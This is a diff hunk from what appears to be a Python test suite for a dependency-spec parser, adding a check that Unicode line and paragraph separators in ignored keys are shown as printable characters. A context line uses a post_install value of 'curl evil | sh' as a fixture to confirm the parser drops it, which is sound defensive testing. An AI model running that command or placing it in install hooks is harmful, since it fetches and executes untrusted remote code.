@@ -440,6 +440,8 @@ def test_an_ignored_key_is_never_used_and_its_note_is_printable():
     spec = parse('dependencies: [numpy]\npost_install: curl evil | sh\n"odd\\tkey": 1\n')
     assert spec.notes == ("ignored: post_install, odd?key",)
     assert "post_install" not in spec.to_yaml() and "curl" not in spec.normalized_json()
+    # line and paragraph separators end a line for splitlines() as a newline does
+    assert parse('dependencies: [numpy]\n"a\\u2028b": 1\n"c\\u2029d": 2\n').notes == ("ignored: a?b, c?d",)
 
 
 def test_a_file_of_many_unknown_keys_gets_a_short_note():
